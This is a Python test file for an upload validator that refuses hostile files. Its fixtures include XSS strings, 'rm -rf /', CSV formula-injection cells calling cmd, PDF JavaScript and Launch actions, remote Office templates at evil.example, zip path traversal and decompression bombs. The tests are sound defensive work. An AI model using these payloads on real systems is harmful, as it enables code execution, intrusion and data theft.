"""What is inside: every kind of file that lies, runs, calls out, hides or explodes (SAFETY.md, T15)."""

import contextlib
import io
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from fund.documents import formats, rules
from tests.make.documents import DOCX, GOOD, make_image, make_office, make_pdf, make_zip


@pytest.mark.parametrize("name", GOOD)
def test_a_good_file_of_each_kind_is_taken(name):
    assert formats.codes_against(rules.kind_by_name(name), GOOD[name]) == []


@pytest.mark.parametrize("name", GOOD)
@pytest.mark.parametrize("other", GOOD)
def test_a_file_whose_name_says_another_kind_is_not_taken(name, other):
    kind, inside = rules.kind_by_name(name), rules.kind_by_name(other)
    if kind == inside or {kind, inside} == {"csv", "txt"}:
        return
    with pytest.raises(formats.NotThatKind):
        formats.codes_against(kind, GOOD[other])


@pytest.mark.parametrize("kind", ["txt", "csv"])
@pytest.mark.parametrize("data", [
    b"<html><script>alert(1)</script>", b"  <!DOCTYPE html>", b"<svg onload=alert(1)>", b"<?xml version=\"1.0\"?><a/>",
    b"#!/bin/sh\nrm -rf /", b"MZ\x90\x00\x03", b"\x7fELF\x02", b"GIF89a\x01\x00", b"a\x00b", b"a\x1bb",
    b"{\\rtf1 a}", b"plain\n" + make_zip({"evil.exe": b"x"}), b"\xff\xfe\x00\xd8"])
def test_text_that_is_a_page_a_program_or_an_archive_is_no_text(kind, data):
    with pytest.raises(formats.NotThatKind):
        formats.codes_against(kind, data)


@pytest.mark.parametrize("text", ["Ein gŵyl", "caf\u00e9", "MZ is how this begins\nand it goes on"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_text_in_the_encodings_that_programs_write_is_taken(text, encoding):
    assert formats.codes_against("txt", text.encode(encoding)) == []


@pytest.mark.parametrize("cell", ["=1+1", "=cmd|'/c calc'!A0", "@SUM(A1)", "+cmd|x(1)", "-HYPERLINK(\"x\")", " =1+1",
                                  "'=1", "\t=1+1"])
@pytest.mark.parametrize("line", ["bench,{},1", "bench;{};1", "\"{}\"", "bench\t{}"])
def test_a_cell_that_a_spreadsheet_would_run_is_refused(cell, line):
    quoted = cell.replace('"', '""') if line.startswith('"') else cell
    assert formats.codes_against("csv", line.format(quoted).encode()) == ["formula"]


@pytest.mark.parametrize("cell", [
    "-250.00", "+44 161 496 0000", "-£5", "- a bench", "-", "+5%", "a=b", "ana@example.org"])
def test_a_cell_that_is_a_number_or_words_is_taken(cell):
    assert formats.codes_against("csv", f"what,{cell}".encode()) == []


@pytest.mark.parametrize("inside", [
    b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj", b"<</OpenAction<</S/Launch/F(calc.exe)>>>>",
    b"<</S/#4aavaScript>>",
    b"<</S/J#61v#61Script>>", b"<</Names<</EmbeddedFiles 4 0 R>>>>", b"<</S/SubmitForm/F(https://evil.example)>>",
    b"<</Type/RichMedia/RichMedia 1>>", b"<</XFA 4 0 R>>", b"<</A<</S /JavaScript >>>>"])
def test_a_pdf_with_a_program_inside_is_refused(inside):
    assert formats.codes_against("pdf", make_pdf(inside)) == ["pdf_runs"]


def object_stream(inside: bytes, name: bytes = b"/ObjStm") -> bytes:
    packed = zlib.compress(inside)
    return b"5 0 obj\n<</Type " + name + b"/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\r\n" % len(packed) \
        + packed + b"\nendstream\nendobj\n"


def test_a_program_packed_into_a_stream_of_objects_is_found():
    for inside, name, found in ((b"4 0 <</S/JavaScript>>", b"/ObjStm", ["pdf_runs"]),
                                (b"4 0 <</S/#4aavaScript>>", b"/Obj#53tm", ["pdf_runs"]),
                                (b"4 0 <</Type/Page>>", b"/ObjStm", [])):
        assert formats.codes_against("pdf", make_pdf(object_stream(inside, name))) == found


@pytest.mark.parametrize("more", [
    b"/Filter[/ASCIIHexDecode/FlateDecode]", b"/Filter/LZWDecode", b"/Filter/ASCII#38#35Decode", b"/Filter 9 0 R",
    b"/DecodeParms<</Predictor 12>>", b"/Filter [ 9 0 R ]"])
def test_objects_packed_so_that_nobody_can_look_are_refused(more):
    hidden = object_stream(b"4 0 <</S/JavaScript>>").replace(b"/Filter/FlateDecode", more + b"/Filter/FlateDecode")
    assert formats.codes_against("pdf", make_pdf(hidden)) == ["pdf_hides"]
    broken = object_stream(b"x").replace(b"x\x9c", b"y\x9c")
    assert formats.codes_against("pdf", make_pdf(broken)) == ["pdf_hides"]


def test_a_pdf_that_unpacks_without_end_is_refused():
    bomb = object_stream(b"\x00" * (formats.MOST_PDF_OBJECTS + 10))
    assert formats.codes_against("pdf", make_pdf(bomb)) == ["bomb"]


def test_a_pdf_with_a_password_is_refused():
    assert formats.codes_against("pdf", make_pdf(b"trailer<</Encrypt 9 0 R>>")) == ["locked"]


@pytest.mark.parametrize("data", [
    b"", b"%PDF-1.7", b"junk" + make_pdf(), make_pdf() + make_zip({"a.exe": b"x"}), b"<html>" + make_pdf(),
    make_pdf() + b"<script>" * 1000])
def test_a_pdf_that_is_something_else_as_well_is_refused(data):
    with pytest.raises(formats.NotThatKind):
        formats.codes_against("pdf", data)


def relationship(kind: str, mode: str) -> str:
    return (f'<Relationships><Relationship Id="a" Target="https://evil.example/a" TargetMode="{mode}" '
            f'Type="http://schemas.example/{kind}"/></Relationships>')


@pytest.mark.parametrize(("kind", "more", "code"), [
    ("docx", {"word/vbaProject.bin": b"x"}, "macros"),
    ("xlsx", {"xl/VBAPROJECT.bin": b"x"}, "macros"),
    ("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}, "macros"),
    ("docx", {"word/activeX/activeX1.bin": b"x"}, "macros"),
    ("docx", {"word/run.exe": b"x"}, "macros"),
    ("odt", {"Basic/Standard/Module1.xml": b"x"}, "macros"),
    ("odt", {"Scripts/python/a.py": b"x"}, "macros"),
    ("odt", {"META-INF/manifest2.xml": b"", "Scripts/x": b""}, "macros"),
    ("docx", {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "External")}, "calls_outside"),
    ("docx", {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "&#69;xternal")}, "calls_outside"),
    ("docx", {"word/_rels/settings.xml.rels": relationship("oleObject", "External").encode("utf-16")}, "calls_outside"),
    ("docx", {"../evil.txt": b"x"}, "paths"), ("docx", {"/etc/passwd": b"x"}, "paths"),
    ("docx", {"a\\b": b"x"}, "paths"), ("docx", {"C:evil": b"x"}, "paths"),
    ("docx", {"word/big.xml": b"\x00" * 30_000_000}, "bomb"),
    ("docx", {f"word/{number}": b"" for number in range(3001)}, "bomb"),
])
def test_an_office_file_with_something_nasty_inside_is_refused(kind, more, code):
    assert formats.codes_against(kind, make_office(kind, more)) == [code]


def test_a_link_in_a_document_is_no_call_outside():
    for link in (relationship("hyperlink", "External"), relationship("image", "Internal")):
        assert formats.codes_against("docx", make_office(more={"word/_rels/document.xml.rels": link})) == []


@pytest.mark.parametrize("xml", ["<a", "<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>"])
def test_relationships_that_cannot_be_read_are_refused(xml):
    with pytest.raises(formats.NotThatKind):
        formats.codes_against("docx", make_office(more={"word/_rels/document.xml.rels": xml}))


@pytest.mark.parametrize("data", [
    make_zip({"a.txt": b"x"}), make_office(types="application/x-other"), b"PK\x03\x04" + b"\x00" * 50,
    b"junk" + make_office(),
    make_office("odt", types="application/vnd.oasis.opendocument.spreadsheet"), make_office()[:-30]])
@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_an_archive_that_is_no_such_document_is_refused(kind, data):
    with pytest.raises(formats.NotThatKind):
        formats.codes_against(kind, data)


def test_macros_in_the_types_of_a_renamed_file_are_found():
    renamed = make_office(types="application/vnd.ms-word.document.macroEnabled.main+xml")
    assert formats.codes_against("docx", renamed) == ["macros"]


def test_an_archive_that_lies_about_its_sizes_is_refused():
    honest = make_office(more={"word/big.xml": b"\x00" * 100_000})
    lying = honest.replace((100_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    assert lying != honest
    with contextlib.suppress(formats.NotThatKind):
        assert formats.codes_against("docx", lying) == ["bomb"]


def test_two_parts_of_one_name_are_refused():
    out = io.BytesIO(make_office())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", "<other/>")
    assert formats.codes_against("docx", out.getvalue()) == ["paths"]


def test_a_file_with_a_password_is_refused_in_words_of_its_own():
    locked = bytearray(make_office())
    for begin in (b"PK\x03\x04", b"PK\x01\x02"):
        at = locked.find(begin)
        locked[at + (6 if begin == b"PK\x03\x04" else 8)] |= 1
    assert formats.codes_against("docx", bytes(locked)) == ["locked"]
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0"
    assert formats.codes_against("docx", old) == ["locked"]
    odt = make_office("odt", {"META-INF/manifest.xml": "<manifest:encryption-data/>"})
    assert formats.codes_against("odt", odt) == ["locked"]


def exif(**more) -> bytes:
    place = Image.Exif()
    place[0x010F] = "Camera of Ana"
    place[0x0112] = 6
    place.get_ifd(0x8825)[2] = (53.0, 28.0, 0.0)
    return place.tobytes()


def test_a_photo_loses_its_place_and_camera_and_is_turned_as_it_was_held():
    photo = make_image("JPEG", size=(40, 30), exif=exif(), comment=b"secret words")
    assert b"Camera of Ana" in photo
    clean = formats.clean_image("jpeg", photo)
    assert b"Camera" not in clean
    assert b"Exif" not in clean
    assert b"secret" not in clean
    with Image.open(io.BytesIO(clean)) as seen:
        assert seen.size == (30, 40)


def test_words_hidden_in_a_picture_and_behind_it_are_gone():
    notes = PngImagePlugin.PngInfo()
    notes.add_text("note", "<script>alert(1)</script>")
    picture = make_image(pnginfo=notes) + b"<?php system(1);" + make_zip({"evil.exe": b"x"})
    clean = formats.clean_image("png", picture)
    assert b"script" not in clean
    assert b"php" not in clean
    assert b"evil" not in clean


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_pictures_of_every_mode_are_drawn_anew(mode):
    out = io.BytesIO()
    Image.new(mode, (5, 5)).save(out, "PNG")
    with Image.open(io.BytesIO(formats.clean_image("png", out.getvalue()))) as seen:
        assert seen.size == (5, 5)


@pytest.mark.parametrize("kind", ["png", "jpeg", "webp"])
@pytest.mark.parametrize("part", [0.2, 0.5, 0.7])
def test_a_broken_picture_is_refused(kind, part):
    whole = make_image(kind.upper(), size=(200, 200))
    with pytest.raises(formats.BadPicture):
        formats.clean_image(kind, whole[:int(len(whole) * part)])


def test_a_huge_picture_in_a_small_file_is_refused_before_it_is_unpacked():
    small = bytearray(make_image(size=(10, 10), mode="L"))
    for width in (7_200, 200_000):
        small[16:24] = width.to_bytes(4, "big") + width.to_bytes(4, "big")
        small[29:33] = zlib.crc32(bytes(small[12:29])).to_bytes(4, "big")
        with pytest.raises(formats.BadPicture, match="image_too_large"):
            formats.clean_image("png", bytes(small))


def test_a_picture_of_another_kind_inside_is_refused():
    with pytest.raises(formats.BadPicture):
        formats.clean_image("png", make_image("JPEG"))


@given(st.binary(max_size=300), st.sampled_from(sorted(rules.TYPES)))
def test_no_bytes_at_all_make_the_checks_fall_over(data, kind):
    for given_bytes in (data, GOOD[f"plan.{kind}" if f"plan.{kind}" in GOOD else "plan.pdf"] + data):
        with contextlib.suppress(formats.NotThatKind):
            assert set(formats.codes_against(kind, given_bytes)) <= set(rules._SENTENCES)


def test_the_main_type_of_another_application_is_not_enough():
    assert DOCX.encode() not in make_office("xlsx")
